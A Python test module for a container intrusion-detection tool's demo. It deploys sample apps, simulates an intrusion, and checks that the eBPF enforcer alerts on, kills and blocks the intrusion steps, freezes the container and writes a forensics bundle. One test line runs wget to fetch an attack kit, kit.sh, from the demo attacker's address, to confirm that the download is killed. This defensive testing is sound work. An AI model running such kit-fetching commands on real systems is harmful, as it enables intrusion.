"""The demo end to end, as `make demo` + `make attack` + `make respond` + `make demo-down` run it,
on a private copy of the demo (tests/support/demo.py): real images, real compose apps, a real
enforcer with its eBPF sensors, feeds served from 127.0.0.1.

The tests of this module run in order on one deployment: deploy, attack in alert mode, the
response in protect mode, then down."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import tarfile
import urllib.request
from pathlib import Path
from typing import Any, Iterator

import pytest

from support.demo import DemoInstance, pid_running
from support.harness import REPO, docker, wait_for

# The demo: real images and compose apps, a real enforcer with its sensors and nftables table.
pytestmark = [pytest.mark.docker, pytest.mark.bpf, pytest.mark.nftables]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, docker_engine: None) -> Iterator[DemoInstance]:
    instance = DemoInstance(tmp_path_factory.mktemp("demo"))
    try:
        instance.up()
        yield instance
    finally:
        log = instance.enforcer_log()
        instance.down()
        print(f"\n---- demo {instance.name} enforcer log (tail) ----\n{log[-6000:]}")


def get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as reply:
        return reply.read().decode()


def views(page: str) -> int:
    found = re.search(r"(\d+) views", page)
    assert found, page
    return int(found.group(1))


def test_demo_deploys_the_apps_and_the_blog_reads_its_database(demo: DemoInstance) -> None:
    assert sorted(demo.containers()) == sorted([
        demo.container("blog", "web"), demo.container("blog", "db"),
        demo.container("pinger", "app"), demo.container("attacker", "kit")])
    front = get(demo.blog_url)
    assert "Compose files are topology" in front
    # Each post view is an UPDATE and a SELECT in MariaDB: the counter moves.
    first = views(get(demo.blog_url + "?post=1"))
    assert views(get(demo.blog_url + "?post=1")) > first
    assert "Is it up?" in get(demo.pinger_url)
    assert "1 received" in get(demo.pinger_url + "ping?host=127.0.0.1")
    # The published ports bind 127.0.0.1 only.
    ports = docker("port", demo.container("blog", "web")).stdout
    assert ports.strip().endswith(f"127.0.0.1:{demo.env['STOCKADE_DEMO_BLOG_PORT']}"), ports
    # The attacker sits at the fixed address the feed lists, on an internal network.
    net = docker("network", "inspect", "-f", "{{.Internal}}", demo.env["STOCKADE_DEMO_SHARED_NET"]).stdout.strip()
    assert net == "true"
    kit_ip = docker("inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}",
                    demo.container("attacker", "kit")).stdout.split()
    assert kit_ip == [demo.attacker_ip]


def test_demo_feeds_are_served_locally_and_synced(demo: DemoInstance) -> None:
    feeds = {f["name"]: f for f in demo.cli_json("feeds", "list")}
    bad_ips, kit = feeds["demo-bad-ips"], feeds["demo-kit-sha256"]
    assert bad_ips["url"].startswith("http://127.0.0.1:") and bad_ips["local"] is True
    assert (bad_ips["status"], bad_ips["entries"], bad_ips["dropped"]) == ("ok", 1, 0)
    assert (kit["status"], kit["entries"]) == ("ok", 1)
    assert not any(f["enabled"] for name, f in feeds.items() if not name.startswith("demo-"))


def test_running_the_demo_again_reuses_what_runs(demo: DemoInstance) -> None:
    enforcer, hostside = demo.pid("enforcer"), demo.pid("hostside")
    ids = docker("ps", "-q", "--no-trunc", "--filter", f"label=stockade.demo={demo.name}").stdout.split()
    out = demo.up().stdout
    assert "images ready" in out and "building" not in out
    assert (demo.pid("enforcer"), demo.pid("hostside")) == (enforcer, hostside)
    assert pid_running(enforcer) and pid_running(hostside)
    assert sorted(docker("ps", "-q", "--no-trunc", "--filter", f"label=stockade.demo={demo.name}").stdout.split()) == sorted(ids)
    feeds = [f["name"] for f in demo.cli_json("feeds", "list") if f["name"].startswith("demo-")]
    assert sorted(feeds) == ["demo-bad-ips", "demo-kit-sha256"]


def demo_alerts(demo: DemoInstance) -> list[dict[str, Any]]:
    names = {demo.container(app, svc) for app, svc in (("blog", "web"), ("blog", "db"), ("pinger", "app"), ("attacker", "kit"))}
    return [a for a in demo.cli_json("alerts") if a.get("container") in names]


def find(alerts: list[dict[str, Any]], container: str, kind: str, **detail: Any) -> dict[str, Any]:
    for a in alerts:
        if a["container"] == container and a["kind"] == kind and all(a["detail"].get(k) == v for k, v in detail.items()):
            return a
    raise AssertionError(f"no {kind} alert on {container} with {detail}; alerts there: "
                         + "; ".join(f"{a['kind']}: {a['summary']}" for a in alerts if a["container"] == container))


def test_attack_in_alert_mode_raises_every_kind_of_alert(demo: DemoInstance) -> None:
    demo.wait_learned()
    report = demo.attack()
    assert report["mode"] == "alert"
    # Alert mode stops nothing: the tools ran (unshare itself is refused by Docker's seccomp).
    assert [s["exit_status"] for s in report["steps"]] == [1, 0, 0, 0], report["steps"]
    assert "try 2 - the database answered: 5.5.5-" in report["steps"][3]["output"]
    alerts = demo_alerts(demo)
    pinger, db, web = demo.container("pinger", "app"), demo.container("blog", "db"), demo.container("blog", "web")
    kit_sha256 = hashlib.sha256((REPO / "demo/images/attacker/www/kit.sh").read_bytes()).hexdigest()
    found = [
        find(alerts, pinger, "syscall", name="unshare"),
        find(alerts, pinger, "process", path="/usr/bin/unshare"),
        find(alerts, pinger, "process", path="/usr/bin/wget"),
        find(alerts, pinger, "process", path="/usr/bin/nc"),
        find(alerts, pinger, "threat", type="ip", indicator=demo.attacker_ip, feed="demo-bad-ips"),
        find(alerts, pinger, "threat", type="sha256", indicator=kit_sha256, feed="demo-kit-sha256", path="/tmp/kit.sh"),
        find(alerts, pinger, "file", path="/tmp/kit.sh"),
        find(alerts, pinger, "network", direction="out", remote_ip=demo.db_ip, remote_port=3306),
        # The blog's database sees traffic from a container nothing links to it.
        find(alerts, db, "network", direction="in", remote_ip=demo.pinger_ip, local_port=3306),
    ]
    assert {a["action"] for a in found} == {"alerted"}
    # Alert mode's dry run of protect: the programs would have been killed, the connection blocked.
    assert find(alerts, pinger, "process", path="/usr/bin/wget")["would"] == "killed"
    assert find(alerts, pinger, "network", direction="out", remote_ip=demo.db_ip, remote_port=3306)["would"] == "blocked"
    # An incident per story: the whole intrusion folds into a few rows of the console's
    # stories view (g), every finding one Enter away (issue goal: at most 5).
    attack = [a for a in alerts if a["container"] in (pinger, db) and a["kind"] != "syscall" or
              a["container"] == pinger and a["kind"] == "syscall"]
    stories = {(a["container_id"], (a.get("lineage") or {}).get("pid", 0)) for a in attack}
    print(f"\nmake attack in alert mode: {len(attack)} incidents in {len(stories)} stories")
    assert len(stories) <= 5, sorted(stories)
    # The blog's steady workload (a visitor reading pages that query the database) raised no
    # process, network, file or threat alert. (A short learning period can miss a rare syscall
    # such as malloc's madvise: low-severity syscall novelties are tolerated here.)
    noise = [a["summary"] for a in alerts if a["container"] == web and (a["kind"], a["severity"]) != ("syscall", "low")]
    assert noise == []


def freezer_state(container_id: str) -> str:
    for path in (f"/sys/fs/cgroup/freezer/docker/{container_id}/freezer.state",
                 f"/sys/fs/cgroup/freezer/system.slice/docker-{container_id}.scope/freezer.state"):
        if Path(path).exists():
            return Path(path).read_text().strip()
    for path in (f"/sys/fs/cgroup/docker/{container_id}/cgroup.freeze",
                 f"/sys/fs/cgroup/system.slice/docker-{container_id}.scope/cgroup.freeze"):
        if Path(path).exists():
            return "FROZEN" if Path(path).read_text().strip() == "1" else "THAWED"
    return "?"


def test_response_kills_the_tools_blocks_the_connection_freezes_and_writes_the_bundle(demo: DemoInstance) -> None:
    report = demo.attack("--respond")
    pinger = demo.container("pinger", "app")
    assert report["mode"] == "protect"
    steps = report["steps"]
    # unshare, wget and nc are killed in the kernel before they run: SIGKILL, exit status 137.
    assert [s["exit_status"] for s in steps[:3]] == [137, 137, 137], steps
    assert "Killed" in steps[1]["output"]
    # python3 is part of the app, so it runs. Default-deny: nothing in the profile links the
    # app to the blog's database, so the kernel refuses the very first SYN; no try gets through.
    assert steps[3]["exit_status"] == 1 and "try 1 - no connection" in steps[3]["output"], steps[3]
    assert "try 2 - no connection" in steps[3]["output"] and "answered" not in steps[3]["output"], steps[3]
    alerts = demo_alerts(demo)
    for path in ("/usr/bin/unshare", "/usr/bin/wget", "/usr/bin/nc"):
        assert find(alerts, pinger, "process", path=path)["action"] == "killed"
    assert find(alerts, pinger, "network", direction="out", remote_ip=demo.db_ip, remote_port=3306)["action"] == "blocked"
    # Refused by the policy: no reactive block was needed.
    assert not any(b["container"] == pinger and b["source"] == "protect" and demo.db_ip in str(b)
                   for b in demo.cli_json("blocks")), demo.cli_json("blocks")
    # The blog itself keeps working: its web front end still reads the database.
    assert "Compose files are topology" in get(demo.blog_url)
    # Frozen in the kernel, and the bundle written with a manifest that matches its members.
    row = next(c for c in demo.cli_json("containers") if c["name"] == pinger)
    assert row["frozen"] is True and freezer_state(row["id"]) == "FROZEN"
    bundle = Path(report["response"]["forensics"]["path"])
    assert bundle.is_file() and bundle.parent == demo.state / "forensics"
    check_bundle(bundle)
    # Thawed, the container is in protect mode still: a new try of a tool dies with 137.
    demo.cli("unfreeze", pinger)
    assert docker("exec", pinger, "wget", "-q", "-O", "/dev/null", f"http://{demo.attacker_ip}/kit.sh",
                  check=False).returncode == 137


def check_bundle(bundle: Path) -> None:
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
        manifests = [n for n in names if "manifest" in n]
        assert manifests, names
        manifest = json.loads(tar.extractfile(manifests[0]).read())  # type: ignore[union-attr]
        entries = manifest.get("members") or manifest.get("files") or manifest
        listed = {str(e.get("name") or e.get("path")): e.get("sha256") for e in entries} \
            if isinstance(entries, list) else {str(k): v for k, v in entries.items()}
        assert len(listed) >= 3, manifest
        for name, digest in listed.items():
            member = next(m for m in tar.getmembers() if m.name.endswith(name))
            assert hashlib.sha256(tar.extractfile(member).read()).hexdigest() == digest, name  # type: ignore[union-attr]


def test_down_removes_everything_the_demo_started(demo: DemoInstance) -> None:
    enforcer, hostside = demo.pid("enforcer"), demo.pid("hostside")
    demo.down()
    assert demo.containers() == []
    assert docker("network", "inspect", demo.env["STOCKADE_DEMO_SHARED_NET"], check=False).returncode != 0
    wait_for(lambda: not pid_running(enforcer) and not pid_running(hostside), timeout=30,
             what="the enforcer and the feed server to stop")
    assert not Path(demo.env["STOCKADE_SOCKET"]).exists()
    assert not (demo.state / "stockade.db").exists()
    # The enforcer's table and pinned programs outlive it by design; the demo's go with it
    # (else every `make demo-down` left ~40 programs attached to the host).
    table = demo.env["STOCKADE_NFT_TABLE"]
    assert not Path(f"/sys/fs/bpf/stockade/{table}").exists()
    assert table not in subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
